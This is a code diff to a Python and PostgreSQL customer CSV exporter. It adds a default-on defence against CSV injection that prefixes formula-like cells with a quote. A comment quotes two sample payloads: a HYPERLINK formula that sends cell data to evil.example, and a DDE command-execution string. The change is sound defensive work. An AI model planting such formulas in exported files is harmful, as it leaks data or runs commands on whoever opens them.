@@ -4,7 +4,8 @@ Columns: `customer_entity_id`, then the destination's attributes in order. Cell 
 fast path and the Python path):
 - no value: an empty cell;
 - one value: the value itself (`jane@example.com`, `42`, `true`, `2026-11-01`);
-- several values (attributes are lists, e.g. a customer's emails): a JSON array, `["a@x.com", "b@y.com"]`.
+- several values (attributes are lists, e.g. a customer's emails): a JSON array, `["a@x.com", "b@y.com"]`;
+- with `spreadsheet_safe` (the default), a cell a spreadsheet would run as a formula gets a leading `'`.
 
 When the export's members come from the database (`context.members_sql`), the file is produced by PostgreSQL
 `COPY (SELECT ...) TO STDOUT (FORMAT csv)` and written as it streams; otherwise rows are formatted in Python.
@@ -18,6 +19,7 @@ import csv
 import io
 import json
 import os
+import re
 import tempfile
 from collections.abc import Iterable
 from typing import Any
@@ -38,6 +40,30 @@ def cell_sql(attribute_id: str) -> str:
     return (
         f"CASE jsonb_typeof({value}) WHEN 'array' THEN CASE jsonb_array_length({value}) WHEN 0 THEN NULL "
         f"WHEN 1 THEN ({value}) ->> 0 ELSE ({value})::text END ELSE e.attributes ->> '{attribute_id}' END"
+    )
+
+
+# A spreadsheet runs a cell starting with one of these as a formula (CSV injection: a customer who signs up as
+# `=HYPERLINK("https://evil.example/?"&A2, "Click")` or `@SUM(1+1)*cmd|' /C calc'!A0` attacks whoever opens the
+# export). Such cells get a leading `'` (OWASP's advice), except number-like ones (`-5`, `+44 20 7946 0958`): without
+# letters a formula can call nothing, and phone numbers and negative numbers stay as they are.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+NUMBER_LIKE = re.compile(r"[-+]?[0-9][0-9 ().,eE+-]*")
+NUMBER_LIKE_SQL = "^[-+]?[0-9][0-9 ().,eE+-]*$"
+
+
+def formula_safe(text: str) -> str:
+    """The cell as a spreadsheet shows it as text (see FORMULA_START)."""
+    if text.startswith(FORMULA_START) and not NUMBER_LIKE.fullmatch(text):
+        return "'" + text
+    return text
+
+
+def formula_safe_sql(column: str) -> str:
+    """The SQL twin of `formula_safe` on a text column."""
+    return (
+        f"CASE WHEN left({column}, 1) IN ('=', '+', '-', '@', E'\\t', E'\\r') "
+        f"AND {column} !~ '{NUMBER_LIKE_SQL}' THEN '''' || {column} ELSE {column} END"
     )
 
 
@@ -79,6 +105,13 @@ class CsvLoader(Loader):
         ),
         ConfigField("attributes", kind="list", default=[], help="Attribute ids to export, in column order."),
         ConfigField("delimiter", kind="choice", choices=(",", ";", "\t", "|"), default=",", help="Column separator."),
+        ConfigField(
+            "spreadsheet_safe",
+            kind="bool",
+            default=True,
+            help="Prefix values a spreadsheet would run as a formula (starting with = + - @) with ' (CSV "
+            "injection). Turn off when only a program reads the file.",
+        ),
     )
 
     def columns(self, context: LoadContext | None) -> list[str]:
@@ -120,16 +153,24 @@ class CsvLoader(Loader):
         for attribute_id in attributes:
             if "'" in attribute_id or "\\" in attribute_id:
                 raise ValueError(f"invalid attribute id {attribute_id!r}")
-        cells = "".join(f", {cell_sql(a)}" for a in attributes)
+        if self.config["spreadsheet_safe"]:
+            values = "".join(f", {cell_sql(a)} AS c{i}" for i, a in enumerate(attributes))
+            cells = "".join(f", {formula_safe_sql(f'm_.c{i}')}" for i in range(len(attributes)))
+        else:
+            cells = "".join(f", {cell_sql(a)}" for a in attributes)
         delimiter_sql = (
             ", DELIMITER E'\\t'" if self.config["delimiter"] == "\t" else f", DELIMITER '{self.config['delimiter']}'"
         )
         if context.members_condition is not None:
             where, params = context.members_condition
-            select = f"SELECT e.id{cells} FROM customer_entities e WHERE ({where}) ORDER BY e.id"
+            members = f"FROM customer_entities e WHERE ({where})"
         else:
             sql, params = context.members_sql  # type: ignore[misc]
-            select = f"SELECT e.id{cells} FROM customer_entities e JOIN ({sql}) m ON m.id = e.id ORDER BY e.id"
+            members = f"FROM customer_entities e JOIN ({sql}) m ON m.id = e.id"
+        if self.config["spreadsheet_safe"]:  # each cell computed once, then checked
+            select = f"SELECT m_.id{cells} FROM (SELECT e.id{values} {members}) m_ ORDER BY m_.id"
+        else:
+            select = f"SELECT e.id{cells} {members} ORDER BY e.id"
         statement = f"COPY ({select}) TO STDOUT (FORMAT csv{delimiter_sql})"
         # COPY streams on its own connection, so progress can be recorded on Django's connection meanwhile (a
         # psycopg connection runs one statement at a time). Inside a transaction (tests) the COPY must see its
@@ -164,10 +205,12 @@ class CsvLoader(Loader):
         rows = 0
         text = io.StringIO()
         writer = csv.writer(text, delimiter=self.config["delimiter"], lineterminator="\n")
+        safe = self.config["spreadsheet_safe"]
         for batch in batched(customers, 5_000):
             for customer in batch:
                 values = customer.get("attributes") or {}
-                writer.writerow([customer["id"], *(cell(values.get(a)) for a in attributes)])
+                cells = (cell(values.get(a)) for a in attributes)
+                writer.writerow([customer["id"], *(map(formula_safe, cells) if safe else cells)])
             out.write(text.getvalue().encode("utf-8"))
             text.seek(0)
             text.truncate()
